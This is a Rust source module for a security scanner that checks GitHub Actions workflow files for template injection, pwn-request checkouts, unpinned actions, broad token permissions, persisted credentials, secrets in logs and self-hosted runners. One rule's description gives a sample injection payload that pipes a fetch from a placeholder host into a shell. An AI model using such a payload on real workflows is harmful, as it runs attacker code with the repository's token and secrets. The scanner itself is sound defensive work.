//! GitHub Actions workflows (`.github/workflows/*.yml`).
//!
//! Checks: template injection of attacker-controlled event fields into `run:` scripts and
//! `actions/github-script` scripts (directly or through `env.X` set from such a field);
//! "pwn requests" (pull_request_target, workflow_run or issue_comment workflows that check out
//! the pull request head and then run code); actions not pinned to a commit SHA; token
//! permissions (missing, `write-all`, broad top-level writes); `actions/checkout` persisting
//! its credentials; secrets printed to logs; self-hosted runners on pull request events.
//!
//! GitHub-owned actions (`actions/*`, `github/*`) not pinned to a SHA are reported by a
//! separate info-level rule: they are maintained by the platform owner, whom every workflow
//! trusts anyway, but a tag can still be moved; third-party actions get the medium rule.

use super::kubernetes::yaml::{Node, YamlFile};
use super::{CheckResult, IacFile, IacKind, IacOutput, IacRule};
use regex::Regex;
use secops_core::Severity;
use std::sync::OnceLock;

/// Is this file one of ours?
pub fn is_workflow(rel_path: &str) -> bool {
    (rel_path.starts_with(".github/workflows/") || rel_path.contains("/.github/workflows/"))
        && (rel_path.ends_with(".yml") || rel_path.ends_with(".yaml"))
}

pub const TEMPLATE_INJECTION: &str = "iac.github-actions.template-injection";
pub const UNTRUSTED_CHECKOUT: &str = "iac.github-actions.untrusted-checkout";
pub const UNPINNED: &str = "iac.github-actions.unpinned-action";
pub const UNPINNED_GITHUB: &str = "iac.github-actions.unpinned-github-action";
pub const EXCESSIVE_PERMISSIONS: &str = "iac.github-actions.excessive-permissions";
pub const PERMISSIONS_MISSING: &str = "iac.github-actions.permissions-missing";
pub const PERSIST_CREDENTIALS: &str = "iac.github-actions.checkout-persist-credentials";
pub const SECRETS_IN_LOGS: &str = "iac.github-actions.secrets-in-logs";
pub const SELF_HOSTED_PR: &str = "iac.github-actions.self-hosted-runner-pr";

const RULES: &[IacRule] = &[
    IacRule::new(
        IacKind::GithubActions,
        TEMPLATE_INJECTION,
        "Untrusted input expanded into a script",
        Severity::High,
        Some(94),
        "`${{ }}` expressions are pasted into the script text before the shell runs it, so an \
         issue title, pull request body, branch name, comment or commit message such as \
         `\"; curl evil | sh; #` becomes code running with the workflow's token and secrets. \
         Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}` \
         and use `\"$TITLE\"` in the script; in github-script read `process.env.TITLE`).",
    ),
    IacRule::new(
        IacKind::GithubActions,
        UNTRUSTED_CHECKOUT,
        "Pull request code checked out and run in a privileged workflow",
        Severity::Critical,
        Some(829),
        "pull_request_target, workflow_run and issue_comment workflows run with a write token \
         and secrets. Checking out the pull request head (`ref: ${{ github.event.pull_request.head.sha }}`, \
         `refs/pull/N/merge`, `gh pr checkout`) and then running a build, tests or any action \
         lets a fork's author run code with those privileges. Use `pull_request` for building \
         untrusted code, or split the work: build unprivileged, then consume the artifact \
         without executing it; at least restrict the job to same-repository pull requests.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        UNPINNED,
        "Third-party action not pinned to a commit SHA",
        Severity::Medium,
        Some(829),
        "A tag or branch (`@v1`, `@main`) can be moved by the action's owner or by anyone who \
         compromises it, and the new code runs with your token and secrets (as in the \
         tj-actions/changed-files compromise). Pin to the full 40-character commit SHA \
         (`uses: owner/action@<sha> # v1.2.3`) and let Dependabot update it; pin `docker://` \
         images by digest.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        UNPINNED_GITHUB,
        "GitHub-owned action not pinned to a commit SHA",
        Severity::Info,
        Some(829),
        "Actions owned by GitHub (`actions/*`, `github/*`) are maintained by the platform every \
         workflow already trusts, so a tag is a small risk; pinning the full commit SHA still \
         makes builds reproducible and immune to a moved tag.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        EXCESSIVE_PERMISSIONS,
        "Workflow token with excessive permissions",
        Severity::High,
        Some(250),
        "`permissions: write-all` (or write scopes at workflow level shared by several jobs) gives \
         every step a token that can push code, publish packages or change releases; a \
         compromised dependency or action then gets all of it. Set `permissions: contents: read` \
         (or `{}`) at the top and grant each write scope only to the job that needs it.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        PERMISSIONS_MISSING,
        "Workflow token permissions not set",
        Severity::Medium,
        Some(250),
        "Without a `permissions:` block at workflow or job level the GITHUB_TOKEN gets the \
         repository's default permissions, which are read/write on older repositories and \
         organisations. Add `permissions: contents: read` at the top of the workflow and \
         widen it per job.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        PERSIST_CREDENTIALS,
        "actions/checkout persists credentials",
        Severity::Medium,
        Some(522),
        "By default actions/checkout writes the token into .git/config, where every later \
         step (and anything that uploads the workspace as an artifact) can read it. Set \
         `with: persist-credentials: false` and pass a token explicitly to the steps that push.",
    ),
    IacRule::new(
        IacKind::GithubActions,
        SECRETS_IN_LOGS,
        "Secret printed to the log",
        Severity::High,
        Some(532),
        "Echoing a secret, dumping `toJSON(secrets)` or running with `set -x` while secrets are \
         in the environment writes them to the build log; masking fails for transformed or \
         structured values and logs are often readable by everyone with read access. Never \
         print secrets; pipe them to the command that needs them (`--password-stdin`).",
    ),
    IacRule::new(
        IacKind::GithubActions,
        SELF_HOSTED_PR,
        "Self-hosted runner on pull request events",
        Severity::Medium,
        Some(668),
        "A job on a self-hosted runner triggered by pull requests runs code from forks on your \
         machine; on public repositories anyone can open one, and non-ephemeral runners keep \
         what the attacker left behind. Use GitHub-hosted runners for pull requests, or \
         ephemeral, isolated runners with fork approval required.",
    ),
];

/// The rules of this module.
pub fn rules() -> Vec<IacRule> {
    RULES.to_vec()
}

/// Evaluate the checks.
pub fn check(file: &IacFile<'_>, out: &mut IacOutput) {
    let Some(text) = super::text_of(file, out) else {
        return;
    };
    let (yf, errors) = YamlFile::parse(file.rel_path, text);
    out.errors.extend(errors);
    for doc in &yf.docs {
        let mut ctx = Ctx {
            path: file.rel_path,
            yf: &yf,
            results: &mut out.results,
        };
        ctx.workflow(&Node::root(doc));
    }
}

struct Ctx<'a> {
    path: &'a str,
    yf: &'a YamlFile<'a>,
    results: &'a mut Vec<CheckResult>,
}

fn regex(cell: &'static OnceLock<Option<Regex>>, pattern: &str) -> Option<&'static Regex> {
    cell.get_or_init(|| Regex::new(pattern).ok()).as_ref()
}

fn expr_re() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    regex(&RE, r"(?s)\$\{\{(.*?)\}\}")
}

/// `['issue']` → `.issue`, `[0]` / `[*]` → `.*`.
fn normalize_expr(s: &str) -> String {
    static Q: OnceLock<Option<Regex>> = OnceLock::new();
    static N: OnceLock<Option<Regex>> = OnceLock::new();
    let mut s = s.to_string();
    if let Some(q) = regex(&Q, r#"\[\s*['"]([^'"\]]+)['"]\s*\]"#) {
        s = q.replace_all(&s, ".$1").into_owned();
    }
    if let Some(n) = regex(&N, r"\[\s*(?:\d+|\*)\s*\]") {
        s = n.replace_all(&s, ".*").into_owned();
    }
    s
}

/// The attacker-controlled context an expression reads, if any.
fn untrusted_context(inner: &str) -> Option<String> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    let re = regex(
        &RE,
        r"(?ix)
        \bgithub\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b
        | \bgithub\.event\.(?:comment|review|review_comment)\.body\b
        | \bgithub\.event\.pages\.[^.\s]+\.page_name\b
        | \bgithub\.event\.(?:commits\.[^.\s]+|head_commit)\.(?:message|(?:author|committer)\.(?:email|name))\b
        | \bgithub\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b
        | \bgithub\.head_ref\b
        | \bgithub\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|(?:author|committer)\.(?:email|name))|pull_requests\.[^.\s]+\.head\.ref)\b
        | \bgithub\.event\.merge_group\.head_commit\.(?:message|(?:author|committer)\.(?:email|name))\b
        | \btojson\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|workflow_run|pages|merge_group))?\s*\)
        ",
    )?;
    let n = normalize_expr(inner);
    if boolean_expr(&n) {
        return None;
    }
    re.find(&n).map(|m| m.as_str().to_string())
}

/// Expressions whose result is a boolean cannot inject text.
fn boolean_expr(inner: &str) -> bool {
    let t = inner.trim();
    if t.contains("&&") || t.contains("||") {
        return false;
    }
    let l = t.to_ascii_lowercase();
    l.starts_with("contains(")
        || l.starts_with("startswith(")
        || l.starts_with("endswith(")
        || l.starts_with('!')
        || t.contains("==")
        || t.contains("!=")
}

/// Whether an expression reads secrets.
fn reads_secrets(text: &str) -> bool {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    expr_re().is_some_and(|e| {
        e.captures_iter(text).any(|c| {
            c.get(1).is_some_and(|m| {
                regex(&RE, r"(?i)\bsecrets\b").is_some_and(|r| r.is_match(m.as_str()))
            })
        })
    })
}

fn dumps_all_secrets(text: &str) -> bool {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    regex(&RE, r"(?i)tojson\(\s*secrets\s*\)").is_some_and(|r| r.is_match(text))
}

/// Event names of `on:` (string, list or mapping).
fn triggers(root: &Node<'_>) -> Vec<String> {
    let Some(on) = root.get("on").or_else(|| root.get("true")) else {
        return Vec::new();
    };
    if let Some(s) = on.str() {
        return vec![s.to_string()];
    }
    let seq = on.strings();
    if !seq.is_empty() {
        return seq;
    }
    on.entries().into_iter().map(|(k, _)| k).collect()
}

/// One environment variable in scope of a step.
#[derive(Debug, Clone)]
struct EnvVar {
    name: String,
    /// The attacker-controlled context it carries.
    untrusted: Option<String>,
    secret: bool,
}

fn env_vars(n: Option<&Node<'_>>, into: &mut Vec<EnvVar>) {
    let Some(n) = n else {
        return;
    };
    for (k, v) in n.entries() {
        let value = v.scalar_text().unwrap_or_default();
        let untrusted = expr_re().and_then(|e| {
            e.captures_iter(&value)
                .find_map(|c| c.get(1).and_then(|m| untrusted_context(m.as_str())))
        });
        let secret = reads_secrets(&value) || dumps_all_secrets(&value);
        into.retain(|e| e.name != k);
        into.push(EnvVar {
            name: k,
            untrusted,
            secret,
        });
    }
}

/// `uses:` classification.
enum Uses {
    Local,
    Docker {
        pinned: bool,
    },
    Action {
        owner: String,
        pinned: bool,
        reference: Option<String>,
    },
}

fn classify_uses(u: &str) -> Uses {
    let u = u.trim();
    if u.starts_with("./") || u.starts_with(".\\") {
        return Uses::Local;
    }
    if let Some(img) = u.strip_prefix("docker://") {
        let pinned = img.split_once('@').is_some_and(|(_, d)| {
            d.split_once(':')
                .is_some_and(|(_, h)| h.len() >= 32 && h.chars().all(|c| c.is_ascii_hexdigit()))
        });
        return Uses::Docker { pinned };
    }
    let (name, reference) = match u.rsplit_once('@') {
        Some((n, r)) => (n, Some(r.to_string())),
        None => (u, None),
    };
    let owner = name.split('/').next().unwrap_or("").to_ascii_lowercase();
    let pinned = reference
        .as_deref()
        .is_some_and(|r| r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit()));
    Uses::Action {
        owner,
        pinned,
        reference,
    }
}

fn action_name(u: &str) -> String {
    u.split('@')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase()
}

fn is_checkout(u: &str) -> bool {
    action_name(u) == "actions/checkout"
}

impl Ctx<'_> {
    fn emit(
        &mut self,
        rule_id: &'static str,
        passed: bool,
        line: usize,
        resource: &str,
        message: String,
    ) {
        self.results.push(CheckResult {
            rule_id,
            passed,
            path: self.path.to_string(),
            line,
            resource: resource.to_string(),
            message,
        });
    }

    /// The line of the `nth` occurrence of `needle` inside a node's span.
    fn line_in(&self, node: &Node<'_>, needle: &str, nth: usize) -> usize {
        let (a, b) = node.span();
        self.yf
            .find_line(a, b, needle, nth)
            .or_else(|| {
                needle
                    .lines()
                    .next()
                    .and_then(|first| self.yf.find_line(a, b, first.trim(), 0))
            })
            .unwrap_or(a)
    }

    fn workflow(&mut self, root: &Node<'_>) {
        let Some(jobs) = root.get("jobs") else {
            return;
        };
        let events = triggers(root);
        let jobs = jobs.entries();
        // A reusable workflow (only `workflow_call`) runs with the caller's token.
        let reusable_only = !events.is_empty() && events.iter().all(|e| e == "workflow_call");
        self.permissions(root, &jobs, reusable_only);
        let mut wf_env = Vec::new();
        env_vars(root.get("env").as_ref(), &mut wf_env);
        let privileged = events
            .iter()
            .find(|e| {
                matches!(
                    e.as_str(),
                    "pull_request_target" | "workflow_run" | "issue_comment"
                )
            })
            .cloned();
        let pr_event = events
            .iter()
            .find(|e| {
                matches!(
                    e.as_str(),
                    "pull_request"
                        | "pull_request_target"
                        | "pull_request_review"
                        | "pull_request_review_comment"
                )
            })
            .cloned();
        for (name, job) in &jobs {
            let jres = format!("job {name}");
            if let Some(u) = job.get("uses") {
                if let Some(s) = u.str() {
                    self.pinning(s, u.line(), &jres);
                }
            }
            let mut job_env = wf_env.clone();
            env_vars(job.get("env").as_ref(), &mut job_env);
            let steps = job.get("steps").map(|s| s.items()).unwrap_or_default();
            for (i, step) in steps.iter().enumerate() {
                let sres = format!("job {name} step {}", i + 1);
                let mut env = job_env.clone();
                env_vars(step.get("env").as_ref(), &mut env);
                if let Some(u) = step.get("uses") {
                    if let Some(s) = u.str() {
                        self.pinning(s, u.line(), &sres);
                        if is_checkout(s) {
                            self.persist_credentials(step, &u, &sres);
                        }
                        if action_name(s) == "actions/github-script" {
                            if let Some(script) = step.at(&["with", "script"]) {
                                self.injection(&script, &env, &sres);
                            }
                        }
                    }
                }
                if let Some(run) = step.get("run") {
                    self.injection(&run, &env, &sres);
                    self.secret_logs(step, &run, &env, &sres);
                }
            }
            if let Some(ev) = &privileged {
                self.untrusted_checkout(job, &steps, ev, &jres);
            }
            if let Some(ev) = &pr_event {
                self.self_hosted(job, ev, &jres);
            }
        }
    }

    fn pinning(&mut self, uses: &str, line: usize, res: &str) {
        match classify_uses(uses) {
            Uses::Local => self.emit(
                UNPINNED,
                true,
                line,
                res,
                format!("`{uses}` is a local action"),
            ),
            Uses::Docker { pinned: true } => self.emit(
                UNPINNED,
                true,
                line,
                res,
                format!("`{uses}` is pinned by digest"),
            ),
            Uses::Docker { pinned: false } => self.emit(
                UNPINNED,
                false,
                line,
                res,
                format!("`{uses}` is not pinned by digest"),
            ),
            Uses::Action {
                owner,
                pinned,
                reference,
            } => {
                let rule_id = if owner == "actions" || owner == "github" {
                    UNPINNED_GITHUB
                } else {
                    UNPINNED
                };
                if pinned {
                    self.emit(
                        rule_id,
                        true,
                        line,
                        res,
                        format!("`{uses}` is pinned to a commit SHA"),
                    );
                } else {
                    let why = match reference {
                        None => "has no version at all".to_string(),
                        Some(r) => format!("is pinned to `{r}`, a tag or branch that can move"),
                    };
                    self.emit(rule_id, false, line, res, format!("`{uses}` {why}"));
                }
            }
        }
    }

    fn persist_credentials(&mut self, step: &Node<'_>, uses: &Node<'_>, res: &str) {
        let pc = step.at(&["with", "persist-credentials"]);
        let value = pc
            .as_ref()
            .and_then(|p| p.scalar_text())
            .unwrap_or_default();
        if value.trim().eq_ignore_ascii_case("false") {
            let line = pc.as_ref().map(|p| p.line()).unwrap_or_else(|| uses.line());
            self.emit(
                PERSIST_CREDENTIALS,
                true,
                line,
                res,
                "`persist-credentials: false`".into(),
            );
        } else if let Some(p) = pc {
            self.emit(
                PERSIST_CREDENTIALS,
                false,
                p.line(),
                res,
                format!("`persist-credentials: {value}` leaves the token in .git/config"),
            );
        } else {
            self.emit(
                PERSIST_CREDENTIALS,
                false,
                uses.line(),
                res,
                "actions/checkout without `persist-credentials: false` leaves the token in .git/config".into(),
            );
        }
    }

    fn injection(&mut self, script: &Node<'_>, env: &[EnvVar], res: &str) {
        let Some(text) = script.str() else {
            return;
        };
        let Some(e) = expr_re() else {
            return;
        };
        static ENV_REF: OnceLock<Option<Regex>> = OnceLock::new();
        let env_ref = regex(&ENV_REF, r"\benv\.([A-Za-z_][A-Za-z0-9_\-]*)");
        let mut found = false;
        let mut seen: Vec<String> = Vec::new();
        for c in e.captures_iter(text) {
            let (Some(whole), Some(inner)) = (c.get(0), c.get(1)) else {
                continue;
            };
            let whole = whole.as_str();
            let nth = seen.iter().filter(|s| s.as_str() == whole).count();
            seen.push(whole.to_string());
            let direct = untrusted_context(inner.as_str());
            let via_env = if direct.is_none() && !boolean_expr(inner.as_str()) {
                env_ref.and_then(|r| {
                    r.captures_iter(inner.as_str()).find_map(|m| {
                        let name = m.get(1)?.as_str();
                        let v = env.iter().find(|v| v.name == name)?;
                        v.untrusted
                            .as_ref()
                            .map(|u| format!("env.{name} (set from {u})"))
                    })
                })
            } else {
                None
            };
            if let Some(ctx) = direct.or(via_env) {
                found = true;
                let line = self.line_in(script, whole, nth);
                self.emit(
                    TEMPLATE_INJECTION,
                    false,
                    line,
                    res,
                    format!(
                        "`{}` expands attacker-controlled {ctx} into the script",
                        whole.trim()
                    ),
                );
            }
        }
        if !found {
            self.emit(
                TEMPLATE_INJECTION,
                true,
                script.line(),
                res,
                "no attacker-controlled expression in the script".into(),
            );
        }
    }

    fn secret_logs(&mut self, step: &Node<'_>, run: &Node<'_>, env: &[EnvVar], res: &str) {
        let Some(text) = run.str() else {
            return;
        };
        let secret_vars: Vec<&str> = env
            .iter()
            .filter(|v| v.secret)
            .map(|v| v.name.as_str())
            .collect();
        let direct = reads_secrets(text) || dumps_all_secrets(text);
        if !direct && secret_vars.is_empty() {
            return;
        }
        static LOG: OnceLock<Option<Regex>> = OnceLock::new();
        static XTRACE: OnceLock<Option<Regex>> = OnceLock::new();
        static SPLIT: OnceLock<Option<Regex>> = OnceLock::new();
        let (Some(log), Some(xtrace), Some(split)) = (
            regex(
                &LOG,
                r"(?i)^\s*(?:echo|printf|print|write-host|write-output|write-information|console\.log|cat\s+<<<)\b",
            ),
            regex(
                &XTRACE,
                r"(?m)(?:^|[;&|]\s*)\s*(?:set\s+-[a-zA-Z]*x[a-zA-Z]*\b|set\s+-o\s+xtrace\b|(?:ba|z)?sh\s+-[a-zA-Z]*x)",
            ),
            regex(&SPLIT, r"&&|\|\||;"),
        ) else {
            return;
        };
        let mut leaks: Vec<(String, String)> = Vec::new();
        let mentions_var = |seg: &str| -> Option<String> {
            secret_vars.iter().find_map(|v| {
                let pats = [
                    format!("${v}"),
                    format!("${{{v}}}"),
                    format!("$env:{v}"),
                    format!("%{v}%"),
                    format!("env.{v}"),
                ];
                pats.iter()
                    .find(|p| {
                        seg.match_indices(p.as_str()).any(|(i, _)| {
                            let after = seg.get(i + p.len()..).and_then(|r| r.chars().next());
                            !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
                        })
                    })
                    .map(|_| (*v).to_string())
            })
        };
        for line in text.lines() {
            if line.contains("::add-mask::") {
                continue;
            }
            for seg in split.split(line) {
                if !log.is_match(seg) || seg.contains('|') || seg.contains('>') {
                    continue;
                }
                let what = if dumps_all_secrets(seg) {
                    Some("all secrets (`toJSON(secrets)`)".to_string())
                } else if reads_secrets(seg) {
                    Some("a `secrets.*` expression".to_string())
                } else {
                    mentions_var(seg).map(|v| format!("`${v}`, which holds a secret"))
                };
                if let Some(w) = what {
                    leaks.push((
                        line.trim().to_string(),
                        format!("prints {w}: `{}`", seg.trim()),
                    ));
                }
            }
            if dumps_all_secrets(line) && !leaks.iter().any(|l| l.0 == line.trim()) {
                leaks.push((
                    line.trim().to_string(),
                    "expands `toJSON(secrets)` (every secret) into the script".into(),
                ));
            }
        }
        let shell = step
            .get("shell")
            .and_then(|s| s.str().map(String::from))
            .unwrap_or_default();
        let shell_x = shell
            .split_whitespace()
            .skip(1)
            .any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('x'));
        if let Some(m) = xtrace.find(text) {
            let first = m
                .as_str()
                .trim()
                .trim_start_matches([';', '&', '|'])
                .trim()
                .to_string();
            leaks.push((
                first.clone(),
                format!("`{first}` traces commands while secrets are in use"),
            ));
        } else if shell_x {
            let line = step
                .get("shell")
                .map(|s| s.line())
                .unwrap_or_else(|| run.line());
            self.emit(
                SECRETS_IN_LOGS,
                false,
                line,
                res,
                format!("`shell: {shell}` traces commands while secrets are in use"),
            );
            return;
        }
        if leaks.is_empty() {
            self.emit(
                SECRETS_IN_LOGS,
                true,
                run.line(),
                res,
                "secrets are used without being printed".into(),
            );
            return;
        }
        let mut seen: Vec<String> = Vec::new();
        for (needle, msg) in leaks {
            let nth = seen.iter().filter(|s| **s == needle).count();
            seen.push(needle.clone());
            let line = self.line_in(run, &needle, nth);
            self.emit(SECRETS_IN_LOGS, false, line, res, msg);
        }
    }

    fn permissions(&mut self, root: &Node<'_>, jobs: &[(String, Node<'_>)], reusable_only: bool) {
        let top = root.get("permissions");
        let inheriting: Vec<&str> = jobs
            .iter()
            .filter(|(_, j)| j.get("permissions").is_none())
            .map(|(n, _)| n.as_str())
            .collect();
        if let Some(p) = &top {
            let res = "workflow";
            if p.str().is_some_and(|s| s.trim() == "write-all") {
                self.emit(
                    EXCESSIVE_PERMISSIONS,
                    false,
                    p.line(),
                    res,
                    "`permissions: write-all` at workflow level".into(),
                );
            } else {
                let writes = write_scopes(p);
                if !writes.is_empty() && inheriting.len() >= 2 {
                    self.emit(
                        EXCESSIVE_PERMISSIONS,
                        false,
                        p.line(),
                        res,
                        format!(
                            "workflow-level `{}: write` is given to every job that sets none ({})",
                            writes.join(": write`, `"),
                            inheriting.join(", ")
                        ),
                    );
                } else {
                    self.emit(
                        EXCESSIVE_PERMISSIONS,
                        true,
                        p.line(),
                        res,
                        "workflow-level permissions are restricted".into(),
                    );
                }
            }
        }
        for (name, job) in jobs {
            let res = format!("job {name}");
            match job.get("permissions") {
                Some(p) => {
                    if p.str().is_some_and(|s| s.trim() == "write-all") {
                        self.emit(
                            EXCESSIVE_PERMISSIONS,
                            false,
                            p.line(),
                            &res,
                            "`permissions: write-all`".into(),
                        );
                    } else {
                        self.emit(
                            EXCESSIVE_PERMISSIONS,
                            true,
                            p.line(),
                            &res,
                            "job-level permissions are scoped".into(),
                        );
                    }
                    self.emit(
                        PERMISSIONS_MISSING,
                        true,
                        p.line(),
                        &res,
                        "the job sets its own permissions".into(),
                    );
                }
                None => match &top {
                    Some(t) => {
                        self.emit(
                            PERMISSIONS_MISSING,
                            true,
                            t.line(),
                            &res,
                            "the workflow sets permissions at top level".into(),
                        );
                    }
                    None if reusable_only => {
                        self.emit(
                            PERMISSIONS_MISSING,
                            true,
                            job.line(),
                            &res,
                            "reusable workflow: the token's permissions are set by the caller"
                                .into(),
                        );
                    }
                    None => {
                        self.emit(
                            PERMISSIONS_MISSING,
                            false,
                            job.line(),
                            &res,
                            "no `permissions` on the job or the workflow: the token gets the repository default".into(),
                        );
                    }
                },
            }
        }
    }

    fn untrusted_checkout(&mut self, job: &Node<'_>, steps: &[Node<'_>], event: &str, res: &str) {
        static HEAD: OnceLock<Option<Regex>> = OnceLock::new();
        static RUN_CO: OnceLock<Option<Regex>> = OnceLock::new();
        static GUARD: OnceLock<Option<Regex>> = OnceLock::new();
        let (Some(head), Some(run_co), Some(guard)) = (
            regex(
                &HEAD,
                r"(?i)github\.event\.pull_request\.head\.(?:sha|ref)\b|github\.head_ref\b|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id)\b|refs/pull/|github\.event\.pull_request\.number|github\.event\.issue\.number|github\.event\.pull_request\.head\.repo\.full_name|github\.event\.workflow_run\.head_repository\.full_name",
            ),
            regex(
                &RUN_CO,
                r"(?i)\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n]*\bpull/|\bgit\s+(?:checkout|switch|reset)\b[^\n]*(?:pull_request\.head\.(?:sha|ref)|head_ref|workflow_run\.head_(?:sha|branch)|FETCH_HEAD)",
            ),
            regex(
                &GUARD,
                r"(?i)(?:head\.repo\.full_name|head_repository\.full_name)\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.(?:pull_request\.head\.repo|workflow_run\.head_repository)\.full_name|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork\b",
            ),
        ) else {
            return;
        };
        let guarded = |n: Option<Node<'_>>| {
            n.and_then(|i| i.scalar_text())
                .is_some_and(|t| guard.is_match(&t) && !t.contains("!="))
        };
        if guarded(job.get("if")) {
            self.emit(
                UNTRUSTED_CHECKOUT,
                true,
                job.get("if")
                    .map(|i| i.line())
                    .unwrap_or_else(|| job.line()),
                res,
                "the job only runs for pull requests from this repository".into(),
            );
            return;
        }
        let mut checkout: Option<(usize, String, usize)> = None; // (step index, what, line)
        for (i, step) in steps.iter().enumerate() {
            if let Some((ci, what, line)) = &checkout {
                if let Some(exec) = executes(step) {
                    self.emit(
                        UNTRUSTED_CHECKOUT,
                        false,
                        *line,
                        res,
                        format!(
                            "a `{event}` workflow checks out the pull request head ({what}, step {}) and then runs it: step {} {exec}",
                            ci + 1,
                            i + 1
                        ),
                    );
                    return;
                }
                continue;
            }
            if guarded(step.get("if")) {
                continue;
            }
            let uses = step
                .get("uses")
                .and_then(|u| u.str().map(String::from))
                .unwrap_or_default();
            if is_checkout(&uses) {
                for key in ["ref", "repository"] {
                    if let Some(r) = step.at(&["with", key]) {
                        let v = r.scalar_text().unwrap_or_default();
                        if head.is_match(&v) {
                            checkout = Some((i, format!("`{key}: {}`", v.trim()), r.line()));
                            break;
                        }
                    }
                }
            } else if let Some(run) = step.get("run") {
                let t = run.str().unwrap_or("");
                if let Some(m) = run_co.find(t) {
                    let line = self.line_in(&run, m.as_str(), 0);
                    checkout = Some((i, format!("`{}`", m.as_str()), line));
                }
            }
        }
        let line = steps
            .iter()
            .find(|s| {
                s.get("uses")
                    .and_then(|u| u.str().map(is_checkout))
                    .unwrap_or(false)
            })
            .map(|s| s.line())
            .unwrap_or_else(|| job.line());
        let msg = match checkout {
            Some(_) => "checks out the pull request head but runs nothing after it".to_string(),
            None => format!("a `{event}` workflow that does not check out the pull request head"),
        };
        self.emit(UNTRUSTED_CHECKOUT, true, line, res, msg);
    }

    fn self_hosted(&mut self, job: &Node<'_>, event: &str, res: &str) {
        let Some(ro) = job.get("runs-on") else {
            return;
        };
        let labels = match ro.get("labels") {
            Some(l) => l.strings(),
            None => ro.strings(),
        };
        if labels
            .iter()
            .any(|l| l.trim().eq_ignore_ascii_case("self-hosted"))
        {
            self.emit(
                SELF_HOSTED_PR,
                false,
                ro.line(),
                res,
                format!("runs on a self-hosted runner for `{event}` events"),
            );
        } else {
            self.emit(
                SELF_HOSTED_PR,
                true,
                ro.line(),
                res,
                format!("`runs-on: {}`", labels.join(", ")),
            );
        }
    }
}

/// Top-level permission scopes granted `write`.
fn write_scopes(p: &Node<'_>) -> Vec<String> {
    p.entries()
        .into_iter()
        .filter(|(_, v)| v.str().is_some_and(|s| s.trim() == "write"))
        .map(|(k, _)| k)
        .collect()
}

/// Whether a step runs code from the workspace; what it runs.
fn executes(step: &Node<'_>) -> Option<String> {
    if let Some(run) = step.get("run") {
        let first = run
            .str()
            .unwrap_or("")
            .lines()
            .find(|l| !l.trim().is_empty())
            .unwrap_or("")
            .trim();
        let shown: String = first.chars().take(60).collect();
        return Some(format!("runs `{shown}`"));
    }
    let uses = step.get("uses").and_then(|u| u.str().map(String::from))?;
    let name = action_name(&uses);
    const INERT: &[&str] = &[
        "actions/checkout",
        "actions/cache",
        "actions/upload-artifact",
        "actions/download-artifact",
        "actions/cache/save",
        "actions/cache/restore",
        "actions/labeler",
        "actions/stale",
        "actions/first-interaction",
        "actions/add-to-project",
    ];
    // Toolchain installers (setup-node, setup-python, ...) do not run workspace code.
    if INERT.contains(&name.as_str()) || name.starts_with("actions/setup-") {
        return None;
    }
    if name == "actions/github-script" {
        let script = step
            .at(&["with", "script"])
            .and_then(|s| s.str().map(String::from))
            .unwrap_or_default();
        if !(script.contains("require(") || script.contains("import(") || script.contains("exec")) {
            return None;
        }
    }
    Some(format!("uses `{uses}`"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn contexts() {
        assert!(untrusted_context(" github.event.issue.title ").is_some());
        assert!(untrusted_context("github.event['pull_request']['body']").is_some());
        assert!(untrusted_context("github.event.pages[0].page_name").is_some());
        assert!(untrusted_context("github.event.commits[0].message").is_some());
        assert!(untrusted_context("toJSON(github.event)").is_some());
        assert!(untrusted_context("github.head_ref").is_some());
        assert!(untrusted_context("github.event.issue.number").is_none());
        assert!(untrusted_context("github.event.pull_request.head.sha").is_none());
        assert!(untrusted_context("contains(github.event.issue.title, 'bug')").is_none());
        assert!(untrusted_context("github.event.comment.body == 'ok'").is_none());
        assert!(untrusted_context("github.event.issue.title || 'none'").is_some());
    }

    #[test]
    fn uses() {
        assert!(matches!(classify_uses("./.github/actions/x"), Uses::Local));
        assert!(matches!(
            classify_uses("actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"),
            Uses::Action { pinned: true, .. }
        ));
        assert!(matches!(
            classify_uses("actions/checkout@v4"),
            Uses::Action { pinned: false, .. }
        ));
        assert!(matches!(
            classify_uses("docker://alpine:3"),
            Uses::Docker { pinned: false }
        ));
    }
}
